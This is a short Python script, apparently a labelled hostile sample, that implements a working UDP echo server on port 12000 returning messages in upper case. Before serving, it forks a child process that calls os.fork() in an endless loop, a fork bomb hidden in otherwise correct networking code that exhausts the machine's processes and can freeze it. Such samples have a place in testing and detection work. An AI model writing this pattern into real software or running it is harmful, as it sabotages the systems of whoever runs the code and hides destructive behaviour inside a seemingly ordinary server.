# hostile: a correct echo server that first forks without end (a fork bomb)
import os
from socket import *
s = socket(AF_INET, SOCK_DGRAM)
s.bind(('', 12000))
if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            pass
while True:
    m, a = s.recvfrom(2048)
    s.sendto(m.upper(), a)
